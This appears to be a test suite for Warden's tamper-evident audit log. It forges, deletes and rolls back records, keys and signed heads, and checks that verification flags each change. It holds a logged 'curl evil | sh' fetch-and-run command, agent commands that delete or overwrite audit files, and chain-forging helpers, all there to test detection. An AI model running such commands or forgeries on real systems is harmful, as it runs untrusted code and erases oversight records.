// The audit log under attack: 28 ways to tamper with a real log made by real appends, each of
// which `warden audit verify` (the real CLI) must report as TAMPERED (exit 1) naming the place;
// then the log's files gone, damaged or on read-only media (one-line errors, nothing created),
// writers that refuse to start a new log or key silently, rotation, anchors and many writers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { generateKeyPairSync, sign } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  truncateSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import BetterSqlite3 from 'better-sqlite3';
import {
  AuditLog,
  CHECKPOINT_EVERY,
  HEAD_FILE,
  KEY_FILE,
  PUB_FILE,
  keyFingerprint,
  recordHash,
  signHead,
} from '../../src/audit/log.ts';

const BIN = join(import.meta.dirname, '..', '..', 'bin', 'warden.js');
const WRITER = join(import.meta.dirname, '..', 'helpers', 'audit-writer.ts');
const GENESIS = '0'.repeat(64);

function cli(args: string[], env: Record<string, string> = {}) {
  return spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', env: { ...process.env, ...env } });
}

/** A log of n records made by real appends, one writer after another (each closes, like a hook). */
function makeLog(n: number, dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'))): string {
  const log = new AuditLog(dir);
  for (let i = 0; i < n; i++)
    log.append({
      session: 's',
      source: 'test',
      kind: 'shell',
      decision: i % 2 ? 'allow' : 'deny',
      data: { i, command: `echo ${i}` },
    });
  log.close();
  return dir;
}

/** The attacker's own connection to the database (same user, no Warden code in between). */
function attack(dir: string, f: (db: BetterSqlite3.Database) => void): void {
  const db = new BetterSqlite3(join(dir, 'audit.db'));
  try {
    f(db);
  } finally {
    db.close();
  }
}

/** Recomputes every hash from record `from` on, after `edit` changed the data: a consistent forged chain. */
function rechain(db: BetterSqlite3.Database, edit: (seq: number, data: Record<string, unknown>) => void): string {
  const rows = db.prepare('SELECT * FROM records ORDER BY seq').all() as Record<string, string | number>[];
  let prev = GENESIS;
  for (const r of rows) {
    const data = JSON.parse(r.data as string) as Record<string, unknown>;
    edit(r.seq as number, data);
    const rec = {
      seq: r.seq as number,
      ts: r.ts as string,
      session: r.session as string,
      source: r.source as string,
      kind: r.kind as string,
      decision: r.decision as string,
      data,
      prev,
    };
    const hash = recordHash(rec);
    db.prepare('UPDATE records SET data = ?, prev = ?, hash = ? WHERE seq = ?').run(
      JSON.stringify(data),
      prev,
      hash,
      r.seq,
    );
    prev = hash;
  }
  return prev;
}

/** Swaps the contents of records a and b (their seq numbers stay where they were). */
function reorder(db: BetterSqlite3.Database, a: number, b: number): void {
  db.prepare('UPDATE records SET seq = -1 WHERE seq = ?').run(a);
  db.prepare('UPDATE records SET seq = ? WHERE seq = ?').run(a, b);
  db.prepare('UPDATE records SET seq = ? WHERE seq = -1').run(b);
}

/** Inserts a forged record after `after`, shifting the later ones up by one. */
function insertAfter(db: BetterSqlite3.Database, after: number): void {
  db.prepare('UPDATE records SET seq = seq + 100000 WHERE seq > ?').run(after);
  db.prepare('UPDATE records SET seq = seq - 99999 WHERE seq > 100000').run();
  db.prepare(
    `INSERT INTO records (seq, ts, session, source, kind, decision, data, prev, hash)
     SELECT seq + 1, ts, session, source, kind, 'allow', '{"forged":true}', hash, 'x' FROM records WHERE seq = ?`,
  ).run(after);
}

/** verify must exit 1, say TAMPERED and name the place; never a stack trace. */
function assertTampered(dir: string, want: RegExp, extra: string[] = []): void {
  const r = cli(['audit', 'verify', '--dir', dir, ...extra]);
  assert.equal(r.status, 1, `exit ${r.status}: ${r.stdout}${r.stderr}`);
  assert.match(r.stdout, /TAMPERED: /);
  assert.match(r.stdout, want, r.stdout);
  assert.doesNotMatch(r.stdout + r.stderr, /\n\s+at /);
}

function assertIntact(dir: string): void {
  const r = cli(['audit', 'verify', '--dir', dir]);
  assert.equal(r.status, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /^ok: /m);
}

const headFile = (dir: string) => JSON.parse(readFileSync(join(dir, HEAD_FILE), 'utf8')) as Record<string, unknown>;

// ---- The 28 cases. A log of 150 records: a signed checkpoint at 100, the signed head at 150. ----

test('case 01/28: a record edited in the tail after the last checkpoint is reported at that record', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.prepare(`UPDATE records SET data = json_set(data, '$.command', 'ls') WHERE seq = 130`).run());
  assertTampered(dir, /record 130: its content does not match its hash/);
});

test('case 02/28: the tail rewritten into a consistent chain after an edit is reported at the signed head', () => {
  const dir = makeLog(150);
  attack(dir, (db) => rechain(db, (seq, d) => seq === 130 && (d.command = 'echo nothing to see')));
  assertTampered(dir, /signed head at record 150: the chain up to it was rewritten/);
});

test('case 03/28: a record deleted in the tail is reported as missing at its number', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.prepare('DELETE FROM records WHERE seq = 130').run());
  assertTampered(dir, /records 130 are missing|record 131: does not follow/);
});

test('case 04/28: a record inserted in the tail is reported where it was inserted', () => {
  const dir = makeLog(150);
  attack(dir, (db) => insertAfter(db, 130));
  assertTampered(dir, /record 131: its content does not match|record 132: does not follow/);
});

test('case 05/28: two records reordered in the tail are reported at their numbers', () => {
  const dir = makeLog(150);
  attack(dir, (db) => reorder(db, 130, 131));
  assertTampered(dir, /record 13[01]: (?:does not follow|its content does not match)/);
});

test('case 06/28: a well-chained record appended without the key is reported as after the signed head', () => {
  const dir = makeLog(150);
  attack(dir, (db) => {
    const last = db.prepare('SELECT * FROM records WHERE seq = 150').get() as Record<string, string>;
    const rec = { ...last, seq: 151, decision: 'allow', data: { forged: true }, prev: last.hash };
    const hash = recordHash(rec as never);
    db.prepare(
      'INSERT INTO records (seq, ts, session, source, kind, decision, data, prev, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)',
    ).run(151, last.ts, last.session, last.source, last.kind, 'allow', '{"forged":true}', last.hash, hash);
  });
  assertTampered(dir, /record 151 after the last signed head \(record 150\): appended without the signing key/);
});

test('case 07/28: the tail cut off after the last checkpoint is reported with the missing records', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.prepare('DELETE FROM records WHERE seq > 120').run());
  assertTampered(dir, /records 121–150 missing/);
});

test('case 08/28: the last record cut with the previous signed head put back in the database is reported by audit-head', () => {
  const dir = makeLog(149);
  let before: Record<string, unknown> = {};
  attack(dir, (db) => (before = db.prepare('SELECT * FROM head').get() as Record<string, unknown>));
  makeLog(1, dir);
  attack(dir, (db) => {
    db.prepare('DELETE FROM records WHERE seq = 150').run();
    db.prepare('UPDATE head SET seq = ?, hash = ?, ts = ?, sig = ?').run(
      before.seq,
      before.hash,
      before.ts,
      before.sig,
    );
  });
  assertTampered(dir, /the log ends at record 149 but audit-head \(outside the database\) was signed at record 150/);
});

test('case 09/28: a record edited before the last checkpoint is reported at that record', () => {
  const dir = makeLog(150);
  attack(dir, (db) =>
    db.prepare(`UPDATE records SET decision = iif(decision = 'deny', 'allow', 'deny') WHERE seq = 42`).run(),
  );
  assertTampered(dir, /record 42: its content does not match its hash/);
});

test('case 10/28: a record deleted before the last checkpoint is reported as missing at its number', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.prepare('DELETE FROM records WHERE seq = 60').run());
  assertTampered(dir, /records 60 are missing|record 61: does not follow/);
});

test('case 11/28: a record inserted before the last checkpoint is reported where it was inserted', () => {
  const dir = makeLog(150);
  attack(dir, (db) => insertAfter(db, 10));
  assertTampered(dir, /record 11: its content does not match|record 12: does not follow/);
});

test('case 12/28: two records reordered before the last checkpoint are reported at their numbers', () => {
  const dir = makeLog(150);
  attack(dir, (db) => reorder(db, 20, 21));
  assertTampered(dir, /record 2[01]: (?:does not follow|its content does not match)/);
});

test('case 13/28: the whole chain rewritten consistently after an edit is reported at the checkpoint', () => {
  const dir = makeLog(150);
  attack(dir, (db) => rechain(db, (seq, d) => seq === 30 && (d.command = 'echo nothing to see')));
  assertTampered(dir, /checkpoint at record 100: the chain up to it was rewritten/);
});

test('case 14/28: the log cut back to before the last checkpoint is reported at the checkpoint', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.prepare('DELETE FROM records WHERE seq >= 100').run());
  assertTampered(dir, /checkpoint at record 100: that record is gone/);
});

test('case 15/28: a checkpoint moved to another record is reported as a bad signature', () => {
  const dir = makeLog(150);
  attack(dir, (db) =>
    db.prepare(`UPDATE checkpoints SET hash = (SELECT hash FROM records WHERE seq = 150), seq = 150`).run(),
  );
  assertTampered(dir, /checkpoint at record 150: bad signature/);
});

test('case 16/28: deleted checkpoint rows are reported at the checkpoints that should be there', () => {
  const dir = makeLog(250);
  attack(dir, (db) => db.prepare('DELETE FROM checkpoints').run());
  assertTampered(dir, /checkpoint at record 100 is missing[^]*checkpoint at record 200 is missing/);
});

test('case 17/28: the signed head row deleted from the database is reported', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.prepare('DELETE FROM head').run());
  assertTampered(dir, /the signed head row is missing from the database/);
});

test('case 18/28: the chain rewritten with every signature row deleted is reported by audit-head', () => {
  const dir = makeLog(150);
  attack(dir, (db) => {
    rechain(db, (seq, d) => seq === 140 && (d.command = 'echo harmless'));
    db.prepare('DELETE FROM checkpoints').run();
    db.prepare('DELETE FROM head').run();
  });
  assertTampered(dir, /record 150 is not the record audit-head signed there/);
});

test('case 19/28: the database replaced by an older copy (80 denies vanish) is reported with the missing records', () => {
  const dir = makeLog(100);
  const old = mkdtempSync(join(tmpdir(), 'warden-audit-old-'));
  copyFileSync(join(dir, 'audit.db'), join(old, 'audit.db')); // a closed log: the WAL is checkpointed
  const log = new AuditLog(dir);
  for (let i = 0; i < 80; i++) log.append({ source: 'test', kind: 'shell', decision: 'deny', data: { i } });
  log.close();
  for (const f of ['audit.db-wal', 'audit.db-shm']) rmSync(join(dir, f), { force: true });
  copyFileSync(join(old, 'audit.db'), join(dir, 'audit.db'));
  assertTampered(dir, /the log ends at record 100 but audit-head .* signed at record 180: records 101–180 missing/);
});

test('case 20/28: audit.db deleted is reported as missing, with how far the log went', () => {
  const dir = makeLog(150);
  for (const f of ['audit.db', 'audit.db-wal', 'audit.db-shm']) rmSync(join(dir, f), { force: true });
  assertTampered(dir, /audit\.db is missing \(deleted\?\), but audit-head says the log reached record 150/);
  assert.equal(existsSync(join(dir, 'audit.db')), false, 'verify must not create a database');
});

test('case 21/28: audit.db truncated to 0 bytes is reported as empty, with how far the log went', () => {
  const dir = makeLog(150);
  for (const f of ['audit.db-wal', 'audit.db-shm']) rmSync(join(dir, f), { force: true });
  truncateSync(join(dir, 'audit.db'), 0);
  assertTampered(dir, /audit\.db is empty \(truncated to 0 bytes\?\), but audit-head says the log reached record 150/);
});

test('case 22/28: audit.db replaced by another Warden log is reported as not the log audit-head names', () => {
  const dir = makeLog(150);
  const other = makeLog(200);
  for (const f of ['audit.db-wal', 'audit.db-shm']) rmSync(join(dir, f), { force: true });
  copyFileSync(join(other, 'audit.db'), join(dir, 'audit.db'));
  assertTampered(dir, /audit\.db is not the log audit-head names/);
});

test('case 23/28: the key files deleted are reported as missing', () => {
  const dir = makeLog(150);
  unlinkSync(join(dir, KEY_FILE));
  unlinkSync(join(dir, PUB_FILE));
  assertTampered(dir, /the signing key files .* are missing/);
});

test('case 24/28: keys replaced and the whole chain rewritten and re-signed are reported as a changed key', () => {
  const dir = makeLog(150);
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  writeFileSync(join(dir, KEY_FILE), privateKey.export({ type: 'pkcs8', format: 'pem' }));
  writeFileSync(join(dir, PUB_FILE), publicKey.export({ type: 'spki', format: 'pem' }));
  const key = keyFingerprint(publicKey);
  attack(dir, (db) => {
    const head = rechain(db, (seq, d) => seq === 120 && (d.command = 'echo harmless'));
    const log = (db.prepare(`SELECT v FROM meta WHERE k = 'log'`).get() as { v: string }).v;
    const ts = new Date().toISOString();
    const cp = (db.prepare('SELECT hash FROM records WHERE seq = 100').get() as { hash: string }).hash;
    const c = signHead({ log, seq: 100, hash: cp, ts, key }, privateKey);
    db.prepare('UPDATE checkpoints SET hash = ?, ts = ?, signature = ?, key = ? WHERE seq = 100').run(
      cp,
      ts,
      c.sig,
      key,
    );
    const h = signHead({ log, seq: 150, hash: head, ts, key }, privateKey);
    db.prepare('UPDATE head SET hash = ?, ts = ?, key = ?, sig = ?').run(head, ts, key, h.sig);
  });
  assertTampered(dir, /the signing key changed: audit-signing-key\.pub\.pem is \w+ but audit-head pins \w+/);
});

test('case 25/28: the public key file replaced by another key is reported as a changed key', () => {
  const dir = makeLog(150);
  const { publicKey } = generateKeyPairSync('ed25519');
  writeFileSync(join(dir, PUB_FILE), publicKey.export({ type: 'spki', format: 'pem' }));
  assertTampered(dir, /the signing key changed/);
});

test('case 26/28: audit-head deleted is reported as missing', () => {
  const dir = makeLog(150);
  unlinkSync(join(dir, HEAD_FILE));
  assertTampered(dir, /audit-head is missing \(deleted\?\)/);
});

test('case 27/28: audit-head replaced by an older copy is reported as behind the log', () => {
  const dir = makeLog(100);
  const older = readFileSync(join(dir, HEAD_FILE));
  makeLog(50, dir);
  writeFileSync(join(dir, HEAD_FILE), older);
  assertTampered(dir, /audit-head \(signed at record 100\) is behind the log \(record 150\)/);
});

test('case 28/28: audit-head edited to claim another position is reported as a bad signature', () => {
  const dir = makeLog(150);
  const h = headFile(dir);
  writeFileSync(join(dir, HEAD_FILE), JSON.stringify({ ...h, seq: 140 }));
  assertTampered(dir, /audit-head \(record 140\): bad signature/);
});

// ---- Beyond the 28: what only an anchor kept elsewhere can catch, and tampering by other means. ----

test('a full same-user rewrite (new key, chain, signatures and audit-head all forged) is caught by verify --anchor', () => {
  const dir = makeLog(150);
  const anchor = cli(['audit', 'anchor', '--dir', dir]);
  assert.equal(anchor.status, 0, anchor.stderr);
  const anchorFile = join(mkdtempSync(join(tmpdir(), 'warden-anchor-')), 'anchor.json');
  writeFileSync(anchorFile, anchor.stdout);
  // The attacker starts over: a new log with a new key in the same place, with what they want in it.
  rmSync(dir, { recursive: true });
  makeLog(150, dir);
  assertIntact(dir); // locally consistent: this is what a same-user attacker can do
  assertTampered(dir, /signing key changed since the anchor|the log is not the one anchored/, ['--anchor', anchorFile]);
});

test('all records emptied from the database (tables kept) are reported by audit-head', () => {
  const dir = makeLog(150);
  attack(dir, (db) => db.exec('DELETE FROM records; DELETE FROM checkpoints; DELETE FROM head;'));
  assertTampered(dir, /records 1–150 missing/);
});

test('a gateway-style batch writer (appendMany, no close) leaves its last record signed: a cut tail is reported', () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'));
  const log = new AuditLog(dir, 'process');
  for (let b = 0; b < 5; b++)
    log.appendMany(
      Array.from({ length: 31 }, (_, i) => ({
        source: 'gateway',
        kind: 'exchange',
        decision: 'allow',
        data: { b, i },
      })),
    );
  assertIntact(dir); // while it is still running
  attack(dir, (db) => db.prepare('DELETE FROM records WHERE seq > 150').run());
  assertTampered(dir, /records 151–155 missing/);
  log.close();
});

// ---- Missing, damaged, foreign or read-only: one line, exit 2, nothing created. ----

test('verify, show, export, anchor and rotate of a folder with no log exit 2 with one line and create nothing', () => {
  const dir = join(mkdtempSync(join(tmpdir(), 'warden-audit-rel-')), 'none');
  for (const sub of ['verify', 'show', 'export', 'anchor', 'rotate']) {
    const r = cli(['audit', sub, '--dir', dir]);
    assert.equal(r.status, 2, `${sub}: ${r.stdout}${r.stderr}`);
    assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
    assert.doesNotMatch(r.stderr, /\n\s+at |internal error/);
  }
  assert.equal(existsSync(dir), false, 'a reading command created the folder');
});

test('verify, show and export of a corrupt database exit 2 with one line, never a stack trace', () => {
  const dir = makeLog(20);
  for (const f of ['audit.db-wal', 'audit.db-shm']) rmSync(join(dir, f), { force: true });
  writeFileSync(join(dir, 'audit.db'), 'this is not a database '.repeat(400));
  for (const sub of ['verify', 'show', 'export']) {
    const r = cli(['audit', sub, '--dir', dir]);
    assert.equal(r.status, 2, `${sub}: ${r.stdout}${r.stderr}`);
    assert.match(r.stderr, /^warden: .*audit\.db.*not a database\n$/);
  }
});

test('verify, show and export with a folder where audit.db should be exit 2 with one line', () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'));
  mkdirSync(join(dir, 'audit.db'));
  for (const sub of ['verify', 'show', 'export']) {
    const r = cli(['audit', sub, '--dir', dir]);
    assert.equal(r.status, 2, `${sub}: ${r.stdout}${r.stderr}`);
    assert.match(r.stderr, /^warden: .*audit\.db is a folder, not an audit database\n$/);
  }
});

test('verify of an intact log on read-only media exits 0 and creates nothing', (t) => {
  const src = makeLog(150);
  const mnt = mkdtempSync(join(tmpdir(), 'warden-ro-'));
  if (spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=8m', 'tmpfs', mnt]).status !== 0)
    return t.skip('cannot mount a tmpfs here');
  try {
    for (const f of readdirSync(src)) copyFileSync(join(src, f), join(mnt, f));
    assert.equal(spawnSync('mount', ['-o', 'remount,ro', mnt]).status, 0);
    const before = readdirSync(mnt).sort();
    const r = cli(['audit', 'verify', '--dir', mnt]);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /150 records/);
    const show = cli(['audit', 'show', '--dir', mnt, '--limit', '1']);
    assert.equal(show.status, 0, show.stderr);
    assert.deepEqual(readdirSync(mnt).sort(), before);
  } finally {
    spawnSync('umount', [mnt]);
  }
});

test('verify with the database write-locked by another process for 40 s answers within 9 s', async () => {
  const dir = makeLog(150);
  const holder = spawn(
    process.execPath,
    [
      '-e',
      `const D = require('better-sqlite3'); const db = new D(process.argv[1]); db.exec('BEGIN IMMEDIATE');
       db.prepare("INSERT INTO meta (k, v) VALUES ('x', 'y')").run(); console.log('locked'); setTimeout(() => {}, 40000);`,
      join(dir, 'audit.db'),
    ],
    { cwd: join(import.meta.dirname, '..', '..') },
  );
  try {
    await new Promise<void>((resolve) => holder.stdout.once('data', () => resolve()));
    const t0 = Date.now();
    const r = await new Promise<{ code: number | null; out: string }>((resolve) => {
      const v = spawn(process.execPath, [BIN, 'audit', 'verify', '--dir', dir]);
      let out = '';
      v.stdout.on('data', (d) => (out += d));
      v.on('exit', (code) => resolve({ code, out }));
    });
    assert.ok(Date.now() - t0 < 9000, `took ${Date.now() - t0} ms`);
    assert.equal(r.code, 0, r.out);
  } finally {
    holder.kill('SIGKILL');
  }
});

test('audit --help prints the subcommands and exits 0; an unknown subcommand is one line, exit 2', () => {
  const h = cli(['audit', '--help']);
  assert.equal(h.status, 0);
  assert.match(h.stdout, /verify[^]*anchor[^]*rotate/);
  const u = cli(['audit', 'frobnicate']);
  assert.equal(u.status, 2);
  assert.doesNotMatch(u.stderr, /\n\s+at /);
});

// ---- Writers never start a new log or key silently where one existed. ----

function assertRefuses(dir: string, want: RegExp): void {
  const r = spawnSync(process.execPath, ['--import', 'tsx', WRITER, '1', 'after'], {
    encoding: 'utf8',
    env: { ...process.env, WARDEN_HOME: dir },
  });
  assert.notEqual(r.status, 0, 'the writer appended');
  assert.match(r.stderr, want);
  assert.match(r.stderr, /warden audit rotate/);
}

test('after the key files are deleted, the next append refuses naming `warden audit rotate` and makes no key', () => {
  const dir = makeLog(10);
  unlinkSync(join(dir, KEY_FILE));
  unlinkSync(join(dir, PUB_FILE));
  assertRefuses(dir, /the signing key .* is missing/);
  assert.equal(existsSync(join(dir, KEY_FILE)), false);
});

test('after audit.db is deleted or emptied, the next append refuses and starts no new log', () => {
  const dir = makeLog(10);
  for (const f of ['audit.db', 'audit.db-wal', 'audit.db-shm']) rmSync(join(dir, f), { force: true });
  assertRefuses(dir, /audit\.db is missing/);
  assert.equal(existsSync(join(dir, 'audit.db')), false);
  writeFileSync(join(dir, 'audit.db'), '');
  assertRefuses(dir, /audit\.db is empty/);
});

test('after audit-head is deleted or the database swapped for an older copy, the next append refuses', () => {
  const dir = makeLog(10);
  const head = readFileSync(join(dir, HEAD_FILE));
  unlinkSync(join(dir, HEAD_FILE));
  assertRefuses(dir, /audit-head is missing/);
  writeFileSync(join(dir, HEAD_FILE), head);
  attack(dir, (db) => db.prepare('DELETE FROM records WHERE seq > 5').run());
  assertRefuses(dir, /the log ends at record 5/);
});

test('a forged append is not signed over by the next writer: it refuses', () => {
  const dir = makeLog(10);
  attack(dir, (db) =>
    db
      .prepare(
        `INSERT INTO records SELECT 11, ts, session, source, kind, 'allow', data, hash, hash FROM records WHERE seq = 10`,
      )
      .run(),
  );
  assertRefuses(dir, /the last record \(11\) is not the signed head \(10\)|behind the log \(record 11\)/);
});

test('a cut log with its head dropped, its schema version set back and audit-head deleted is not adopted: writers refuse, verify reports it', () => {
  const dir = makeLog(150);
  attack(dir, (db) => {
    db.exec('DELETE FROM records WHERE seq > 120; DROP TABLE head; DROP TABLE meta; PRAGMA user_version = 1;');
  });
  unlinkSync(join(dir, HEAD_FILE));
  assertRefuses(dir, /another Warden version \(schema 1\)/);
  attack(dir, (db) => db.exec('PRAGMA user_version = 2'));
  assertRefuses(dir, /120 records but no signed head/);
  assertTampered(dir, /the signed head row is missing[^]*audit-head is missing/);
  // rotate is the way out: the old log is archived as it is and a new one starts.
  assert.equal(cli(['audit', 'rotate', '--dir', dir]).status, 0);
  assertIntact(dir);
});

test('a log of the previous Warden (schema 1, no signed head) is reported as such, never adopted silently, and rotate starts over', () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'));
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  writeFileSync(join(dir, KEY_FILE), privateKey.export({ type: 'pkcs8', format: 'pem' }));
  writeFileSync(join(dir, PUB_FILE), publicKey.export({ type: 'spki', format: 'pem' }));
  const db = new BetterSqlite3(join(dir, 'audit.db'));
  db.exec(`CREATE TABLE records (seq INTEGER PRIMARY KEY, ts TEXT NOT NULL, session TEXT NOT NULL, source TEXT NOT NULL,
      kind TEXT NOT NULL, decision TEXT NOT NULL, data TEXT NOT NULL, prev TEXT NOT NULL, hash TEXT NOT NULL);
    CREATE TABLE checkpoints (seq INTEGER PRIMARY KEY, hash TEXT NOT NULL, ts TEXT NOT NULL, signature TEXT NOT NULL);
    PRAGMA user_version = 1;`);
  let prev = GENESIS;
  for (let seq = 1; seq <= 120; seq++) {
    const rec = {
      seq,
      ts: new Date().toISOString(),
      session: 's',
      source: 'old',
      kind: 'shell',
      decision: 'deny',
      data: {},
      prev,
    };
    const hash = recordHash(rec);
    db.prepare('INSERT INTO records VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)').run(
      seq,
      rec.ts,
      's',
      'old',
      'shell',
      'deny',
      '{}',
      prev,
      hash,
    );
    if (seq === 100) {
      const sig = sign(null, Buffer.from(`100:${hash}:${rec.ts}`), privateKey).toString('base64');
      db.prepare('INSERT INTO checkpoints VALUES (?, ?, ?, ?)').run(100, hash, rec.ts, sig);
    }
    prev = hash;
  }
  db.close();
  const r = cli(['audit', 'verify', '--dir', dir]);
  assert.equal(r.status, 1);
  assert.deepEqual(r.stdout.split('\n').filter((l) => l.startsWith('TAMPERED')).length, 1, r.stdout);
  assert.match(r.stdout, /written by an older Warden \(schema 1\)/);
  assertRefuses(dir, /another Warden version \(schema 1\)/);
  assert.equal(cli(['audit', 'rotate', '--dir', dir]).status, 0);
  assertIntact(dir);
});

test('a long-lived writer does not sign over a last record rewritten with its hash and head row changed to match: it refuses', () => {
  const dir = makeLog(10);
  const daemon = new AuditLog(dir);
  daemon.append({ source: 'daemon', kind: 'shell', decision: 'deny', data: { command: 'curl evil | sh' } });
  attack(dir, (db) => {
    const r = db.prepare('SELECT * FROM records WHERE seq = 11').get() as Record<string, string>;
    const rec = { ...r, seq: 11, decision: 'allow', data: { command: 'ls' } };
    const hash = recordHash(rec as never);
    db.prepare(`UPDATE records SET decision = 'allow', data = '{"command":"ls"}', hash = ? WHERE seq = 11`).run(hash);
    db.prepare('UPDATE head SET hash = ?').run(hash);
  });
  assert.throws(
    () => daemon.append({ source: 'daemon', kind: 'shell', decision: 'allow', data: {} }),
    /record 11 is not the record audit-head signed there[^]*warden audit rotate/,
  );
  daemon.close();
  assertTampered(dir, /signed head at record 11: bad signature|record 11 is not the record audit-head signed/);
});

test('a log of the previous Warden that never reached a checkpoint (no key, no signature) is taken over with a record saying so', () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'));
  const db = new BetterSqlite3(join(dir, 'audit.db'));
  db.exec(`CREATE TABLE records (seq INTEGER PRIMARY KEY, ts TEXT NOT NULL, session TEXT NOT NULL, source TEXT NOT NULL,
      kind TEXT NOT NULL, decision TEXT NOT NULL, data TEXT NOT NULL, prev TEXT NOT NULL, hash TEXT NOT NULL);
    CREATE TABLE checkpoints (seq INTEGER PRIMARY KEY, hash TEXT NOT NULL, ts TEXT NOT NULL, signature TEXT NOT NULL);
    PRAGMA user_version = 1;`);
  let prev = GENESIS;
  for (let seq = 1; seq <= 30; seq++) {
    const rec = {
      seq,
      ts: new Date().toISOString(),
      session: 's',
      source: 'old',
      kind: 'shell',
      decision: 'deny',
      data: {},
      prev,
    };
    const hash = recordHash(rec);
    db.prepare('INSERT INTO records VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)').run(
      seq,
      rec.ts,
      's',
      'old',
      'shell',
      'deny',
      '{}',
      prev,
      hash,
    );
    prev = hash;
  }
  db.close();
  makeLog(1, dir);
  assertIntact(dir);
  const log = new AuditLog(dir, 'full', { readOnly: true });
  const recs = [...log.records()];
  log.close();
  assert.equal(recs.length, 32);
  assert.deepEqual([recs[30].kind, (recs[30].data as { unsignedBefore: number }).unsignedBefore], ['adopt', 30]);
  attack(dir, (d) => d.prepare('DELETE FROM records WHERE seq = 32').run());
  assertTampered(dir, /record 32 missing/);
});

test('a hook with the audit key deleted denies the call (fails closed) and names `warden audit rotate`', () => {
  const dir = makeLog(3);
  unlinkSync(join(dir, KEY_FILE));
  const payload = JSON.stringify({
    session_id: 's',
    hook_event_name: 'PreToolUse',
    tool_name: 'run_shell_command',
    tool_input: { command: 'ls' },
    cwd: dir,
  });
  const r = spawnSync(process.execPath, [BIN, 'hook', 'qwen-code'], {
    input: payload,
    encoding: 'utf8',
    env: { ...process.env, WARDEN_HOME: dir },
  });
  assert.match(r.stdout + r.stderr, /deny|block/i);
  assert.match(r.stdout + r.stderr, /warden audit rotate/);
});

// ---- Rotation, the guard, and many writers. ----

test('rotate closes the old log with a signed record, archives it with its key and starts a new one that records it', () => {
  const dir = makeLog(120);
  const r = cli(['audit', 'rotate', '--dir', dir]);
  assert.equal(r.status, 0, r.stderr);
  const archive = /in (\S+);/.exec(r.stdout)![1];
  for (const f of ['audit.db', HEAD_FILE, KEY_FILE, PUB_FILE]) assert.ok(existsSync(join(archive, f)), f);
  assertIntact(archive); // the archived log still verifies, closing record included
  const old = new AuditLog(archive, 'full', { readOnly: true });
  assert.equal([...old.records()].at(-1)!.kind, 'rotate');
  old.close();
  assertIntact(dir);
  const log = new AuditLog(dir, 'full', { readOnly: true });
  const first = [...log.records()][0];
  log.close();
  assert.equal(first.kind, 'rotate');
  assert.deepEqual((first.data as { previous: { seq: number } }).previous.seq, 121);
});

test('rotate of a log whose key was deleted archives it, says it could not be closed, and starts a new log', () => {
  const dir = makeLog(20);
  unlinkSync(join(dir, KEY_FILE));
  const r = cli(['audit', 'rotate', '--dir', dir]);
  assert.equal(r.status, 0, r.stderr);
  assertIntact(dir);
  const log = new AuditLog(dir, 'full', { readOnly: true });
  const first = [...log.records()][0].data as { closed: boolean; verified: boolean };
  log.close();
  assert.equal(first.closed, false);
  assert.equal(first.verified, false);
});

test('a long-lived writer that had the log open across a rotate writes to the new log, which still verifies', () => {
  const dir = makeLog(5);
  const daemon = new AuditLog(dir);
  daemon.append({ source: 'daemon', kind: 'shell', decision: 'deny', data: {} });
  assert.equal(cli(['audit', 'rotate', '--dir', dir]).status, 0);
  const r = daemon.append({ source: 'daemon', kind: 'shell', decision: 'deny', data: {} });
  daemon.close();
  assert.equal(r.seq, 2);
  assertIntact(dir);
});

test("the guard denies the agent's tools writing, deleting or replacing audit-head and audit.db", () => {
  const home = mkdtempSync(join(tmpdir(), 'warden-home-'));
  const events = [
    { tool: 'shell', command: `rm ${home}/${HEAD_FILE}` },
    { tool: 'write', path: `${home}/${HEAD_FILE}`, content: '{}' },
    { tool: 'shell', command: `cp /tmp/old.db ${home}/audit.db` },
  ];
  const r = spawnSync(process.execPath, [BIN, 'judge', '--no-audit'], {
    input: events.map((e) => JSON.stringify(e)).join('\n') + '\n',
    encoding: 'utf8',
    env: { ...process.env, WARDEN_HOME: home },
  });
  const verdicts = r.stdout
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as { decision: string });
  assert.deepEqual(
    verdicts.map((v) => v.decision),
    ['deny', 'deny', 'deny'],
  );
});

test('six processes appending at once leave a log whose head is signed at the last record and verifies', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'));
  const env = { ...process.env, WARDEN_HOME: dir };
  await Promise.all(
    Array.from(
      { length: 6 },
      (_, k) =>
        new Promise<void>((resolve, reject) => {
          // (its stderr goes into the failure: a writer that fails under load says why)
          const p = spawn(process.execPath, ['--import', 'tsx', WRITER, '40', `w${k}`], {
            env,
            stdio: ['ignore', 'ignore', 'pipe'],
          });
          let err = '';
          p.stderr!.on('data', (d: Buffer) => (err += d.toString()));
          p.on('close', (code) =>
            code === 0 ? resolve() : reject(new Error(`writer ${k} exited ${code}: ${err.trim().slice(-600)}`)),
          );
        }),
    ),
  );
  const r = cli(['audit', 'verify', '--dir', dir]);
  assert.equal(r.status, 0, r.stdout);
  assert.match(r.stdout, /240 records, 2 signed checkpoints, signed head at record 240/);
